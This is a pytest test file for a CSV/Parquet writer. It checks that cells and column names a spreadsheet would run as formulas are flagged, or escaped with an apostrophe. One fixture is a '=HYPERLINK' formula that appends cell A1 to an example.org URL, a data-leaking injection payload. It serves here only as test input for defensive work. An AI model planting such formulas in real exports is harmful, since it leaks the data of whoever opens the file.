"""Text that a spreadsheet would run as a formula."""

import warnings

import polars as pl
import pytest

from clearbands.apps.reading import files

LINK = '=HYPERLINK("http://example.org?"&A1,"click")'
ROWS = pl.DataFrame({"name": ["house", None, LINK, "+1", "-x", "@a"], "size": [1, 2, -3, 4, 5, 6]})


def test_text_that_would_be_run_is_told_of(tmp_path):
    with pytest.warns(UserWarning, match=r"such as '=HYPERLINK.* in column 'name': --no-formulas"):
        files.write_table(ROWS, tmp_path / "out.csv")
    assert pl.read_csv(tmp_path / "out.csv")["name"].to_list() == ROWS["name"].to_list()


@pytest.mark.filterwarnings("error")
def test_marked_text_is_no_formula_and_numbers_stay_numbers(tmp_path):
    files.write_table(ROWS, tmp_path / "out.csv", no_formulas=True)
    found = pl.read_csv(tmp_path / "out.csv")
    assert found["name"].to_list() == ["house", None, f"'{LINK}", "'+1", "'-x", "'@a"]
    assert found["size"].to_list() == ROWS["size"].to_list()


def test_names_of_columns_may_be_formulas_too(tmp_path):
    table = pl.DataFrame({"=1+1": [1.0], "x": [-2.0]})
    with pytest.warns(UserWarning, match="in column '=1\\+1'"):
        files.write_table(table, tmp_path / "out.csv")
    files.write_table(table, tmp_path / "out.csv", no_formulas=True)
    assert (tmp_path / "out.csv").read_text() == "'=1+1,x\n1.0,-2.0\n"


@pytest.mark.parametrize("name", ["out.parquet", "out.feather"])
def test_other_formats_hold_no_formulas(name, tmp_path):
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        files.write_table(ROWS, tmp_path / name, no_formulas=True)
        files.write_table(ROWS, tmp_path / name)


def test_harmless_text_is_not_told_of(tmp_path):
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        files.write_table(ROWS.head(2), tmp_path / "out.csv")
